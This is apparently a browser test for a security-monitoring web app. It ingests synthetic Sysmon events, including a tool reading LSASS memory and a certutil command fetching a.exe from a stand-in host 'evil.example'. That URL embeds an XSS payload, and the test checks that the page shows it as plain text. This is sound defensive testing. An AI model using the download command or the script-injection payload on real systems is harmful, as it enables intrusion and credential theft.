"""A host finding is shown on the cluster page: its rules with risk and ATT&CK ids, each hit with what matched
and the command line (task HOSTF).

In Chromium against the real service: Sysmon lines of our own making (NXLog's flat shape) are ingested through
the real pipeline (a tool in a user's folder reading LSASS with 0x1010, and certutil fetching a URL whose
command line carries markup), the API runs the detection, and the analyst opens the case.  Before, one host's
events made no case and the page had no section for one.  The command line is text, never markup.
"""

from __future__ import annotations

import json

import pytest

from tests.web.conftest import screenshot, start_site
from tests.web.corpus_site import ingesting
from tests.web.queue_helpers import sign_in_to_queue

pytestmark = pytest.mark.browser

HOSTILE = "certutil.exe -urlcache -f https://evil.example/<img src=x onerror=\"document.body.dataset.pwned=1\"> a.exe"
TOOL = "C:\\Users\\bob\\AppData\\Local\\Temp\\dumper.exe"


def _sysmon(event_id: int, at: str, **fields: str) -> dict:
    return {"Hostname": "WS-HF1.corp.example", "EventID": event_id, "Channel": "Microsoft-Windows-Sysmon/Operational",
            "SourceName": "Microsoft-Windows-Sysmon", "UtcTime": at, **fields}


def _records() -> list[dict]:
    return [
        _sysmon(1, "2026-11-02 10:00:00.000", Image=TOOL, CommandLine=f"\"{TOOL}\"", OriginalFileName="dumper.exe",
                ProcessGuid="{11111111-0000-0000-0000-000000000001}", ProcessId="4242",
                ParentImage="C:\\Windows\\explorer.exe", User="CORP\\bob"),
        _sysmon(10, "2026-11-02 10:00:05.000", SourceImage=TOOL, SourceProcessGUID="{11111111-0000-0000-0000-000000000001}",
                SourceProcessId="4242", TargetImage="C:\\Windows\\system32\\lsass.exe", TargetProcessId="612",
                GrantedAccess="0x1010"),
        _sysmon(1, "2026-11-02 10:05:00.000", Image="C:\\Windows\\System32\\certutil.exe", CommandLine=HOSTILE,
                OriginalFileName="CertUtil.exe", ProcessGuid="{11111111-0000-0000-0000-000000000002}",
                ProcessId="4343", ParentImage="C:\\Windows\\System32\\cmd.exe", User="CORP\\bob"),
    ]


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    records = _records()
    path = tmp_path_factory.mktemp("sysmon") / "nxlog.ndjson"
    path.write_text("".join(json.dumps(record) + "\n" for record in records))
    with start_site(tmp_path_factory.mktemp("hostf"), ingesting([path], accepted=len(records))) as running:
        running.detect()
        yield running


def test_the_host_finding_is_the_case_and_its_page_lists_rules_and_hits_as_text(page, site):
    [case] = site.api("GET", "/v1/clusters")["items"]
    detail = site.api("GET", f"/v1/clusters/{case['id']}")
    assert case["score"] == 90.0 and case["hosts"] == ["ws-hf1"]
    record = detail["host_finding"]
    assert [r["rule"] for r in record["rules"]] == ["lsass_read", "lolbin_download"]
    assert record["rules"][0]["attack"] == ["T1003.001"]
    sign_in_to_queue(page, site)
    page.click(f"#queue-body tr[data-cluster-id='{case['id']}']")
    page.wait_for_selector("body[data-state=cluster-ready]")
    assert page.is_visible("#cluster-host-finding")
    assert page.text_content("#cluster-host-finding h3") == "Host finding on ws-hf1"
    rules = page.eval_on_selector_all("#cluster-host-finding .host-finding-rules li", "items => items.map(li => li.dataset.rule)")
    assert rules == ["lsass_read", "lolbin_download"]
    assert page.text_content("#cluster-host-finding li[data-rule=lsass_read] .host-finding-attack") == "T1003.001"
    matched = page.eval_on_selector_all("#cluster-host-finding .host-finding-matched", "items => items.map(i => i.textContent)")
    assert any("0x1010" in m for m in matched) and any("certutil fetching a URL" in m for m in matched)
    commands = page.eval_on_selector_all("#cluster-host-finding .host-finding-command", "items => items.map(i => i.textContent)")
    assert commands == [f"\"{TOOL}\"", HOSTILE]  # the opener's command line (its creation), then certutil's
    # the markup stayed text: no element from it, nothing ran
    assert page.eval_on_selector("#cluster-host-finding", "box => box.querySelectorAll('img').length") == 0
    assert page.evaluate("document.body.dataset.pwned") is None
    assert not page.is_visible("#cluster-antivirus") and not page.is_visible("#cluster-credential")
    screenshot(page, "host_finding")
